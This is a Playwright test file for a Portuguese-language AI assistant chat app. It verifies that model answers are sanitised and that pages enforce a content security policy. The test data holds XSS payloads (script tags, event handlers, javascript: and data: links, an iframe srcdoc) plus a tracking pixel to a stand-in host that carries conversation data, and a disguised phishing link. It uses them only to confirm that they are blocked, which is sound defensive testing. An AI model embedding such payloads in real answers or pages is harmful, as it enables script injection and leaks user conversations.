import type { Page } from '@playwright/test'
import { publishAssistant } from './support/assistants.ts'
import { sendAndAwaitAnswer, lastAnswer } from './support/chat.ts'
import { modelDirectives } from './support/model.ts'
import { expect, expectErrors, test } from './support/test.ts'

let path: string

test.use({ as: 'user' })

test.beforeAll(async ({ apiAs }) => {
  path = `/assistants/${await publishAssistant(apiAs('user'), { name: 'Tutor de textos' })}/chats`
})

/** Collects the hosts that the page contacts. */
function watchHosts(page: Page): Set<string> {
  const hosts = new Set<string>()
  page.on('request', (request) => hosts.add(new URL(request.url()).host))
  return hosts
}

const attacks = [
  '<img src="https://rastreio.test/a.png" onerror="globalThis.hacked = 1"> <b onclick="globalThis.hacked = 1">clique</b>',
  '<script>globalThis.hacked = 1</script> <svg onload="globalThis.hacked = 1"></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '[abrir](javascript:globalThis.hacked=1) [dados](data:text/html,<script>1</script>)',
  '![pixel](https://rastreio.test/pixel.png?conversa=secreta)',
  '[meu banco](https://golpe.test/entrar)',
  '![x][img]',
  '',
  '[img]: https://rastreio.test/referencia.png',
  '',
  '$$\\href{javascript:globalThis.hacked=1}{clique}\\includegraphics{https://rastreio.test/m.png}$$',
  '',
  'fim dos ataques',
].join('\n\n')

test('an answer cannot run code, load from elsewhere, or hide the target of a link [W2]', async ({ page, baseURL }) => {
  const hosts = watchHosts(page)
  await page.goto(path)
  await sendAndAwaitAnswer(page, modelDirectives({ text: attacks }))
  const answer = lastAnswer(page)
  await expect(answer).toContainText('fim dos ataques')
  expect([...hosts]).toEqual([new URL(baseURL ?? '').host])
  await expect(answer.locator('img:not([src^="/emoji/"]), iframe, script, b[onclick], svg[onload]')).toHaveCount(0)
  await expect(answer.locator('a[href^="javascript:" i], a[href^="data:" i]')).toHaveCount(0)
  await expect(answer).toContainText('<b onclick="globalThis.hacked = 1">clique</b>')
  expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)

  const link = answer.getByRole('link', { name: /meu banco/ })
  await expect(link).toHaveText(/golpe\.test/)
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow ugc')
})

test('tables, code and formulas of an answer are drawn, and code is copied [S12, W2]', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await page.goto(path)
  const text = [
    '## Notas',
    '| Nome | Nota |\n|---|---|\n| Ana | 9,5 |',
    '```python\nprint("Olá")\n```',
    'A área é $\\pi r^2$ e custa R$ 10 a R$ 20.',
  ].join('\n\n')
  await sendAndAwaitAnswer(page, modelDirectives({ text }))
  const answer = lastAnswer(page)
  await expect(answer.getByRole('heading', { name: 'Notas' })).toBeVisible()
  await expect(answer.getByRole('cell', { name: '9,5' })).toBeVisible()
  await expect(answer.locator('.katex')).toHaveCount(1)
  await expect(answer).toContainText('custa R$ 10 a R$ 20.')
  await answer.getByRole('button', { name: 'Copiar código' }).click()
  expect((await page.evaluate(() => navigator.clipboard.readText())).trim()).toBe('print("Olá")')
  await answer
    .getByRole('button', { name: /^Copiar/ })
    .last()
    .click()
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain('| Ana | 9,5 |')
})

test('endless entities and quotes do not block the page, neither in the field nor in the chat [S12]', async ({
  page,
  apiAs,
}) => {
  const greeting = 'Compras &amp; vendas, **5 &lt; 6**'
  const assistantId = await publishAssistant(apiAs('user'), { name: 'Tutor de sinais', greeting })
  await page.goto(`/assistants/${assistantId}/chats`)
  await expect(page.getByText('Compras & vendas, 5 < 6')).toBeVisible()
  await sendAndAwaitAnswer(
    page,
    modelDirectives({ text: `| x&nbsp;y |\n|---|\n| &copy; |\n\n${'> '.repeat(3000)}fundo\n\nfim` }),
  )
  await expect(lastAnswer(page)).toContainText('fundo')
  await page.reload()
  await expect(lastAnswer(page).getByRole('cell', { name: '©' })).toBeVisible()
  await expect(lastAnswer(page)).toContainText('fim')
  await page.goto(`/assistants/manage/${assistantId}`)
  await expect(page.getByText('Compras & vendas, 5 < 6')).toBeVisible()
})

test('pages have the content security policy, and injected code neither runs nor loads [W1]', async ({
  page,
  violations,
}) => {
  expectErrors('has been blocked')
  const answer = await page.goto('/assistants')
  const policy = answer?.headers()['content-security-policy'] ?? ''
  expect(policy).toContain("default-src 'none'")
  expect(policy).toContain("require-trusted-types-for 'script'")
  expect(/script-src ([^;]+)/.exec(policy)?.[1]).not.toMatch(/unsafe|https?:|\*/)
  expect(answer?.headers()).toMatchObject({
    'x-content-type-options': 'nosniff',
    'cross-origin-opener-policy': 'same-origin-allow-popups',
    'x-frame-options': 'DENY',
  })
  await expect(page.getByRole('heading', { name: 'Assistentes' })).toBeVisible()
  expect(violations).toEqual([])

  const ran = await page.evaluate(async () => {
    const script = document.createElement('script')
    try {
      script.textContent = 'globalThis.hacked = 1'
    } catch {
      // Trusted Types refuse the text itself
    }
    document.head.append(script)
    const image = new Image()
    image.src = 'https://rastreio.test/pixel.png'
    await new Promise((resolve) => image.addEventListener('error', resolve))
    return 'hacked' in globalThis
  })
  expect(ran).toBe(false)
  expect(violations.map((violation) => violation.split(' ')[0])).toEqual(
    expect.arrayContaining(['require-trusted-types-for', 'img-src']),
  )
  violations.length = 0
})
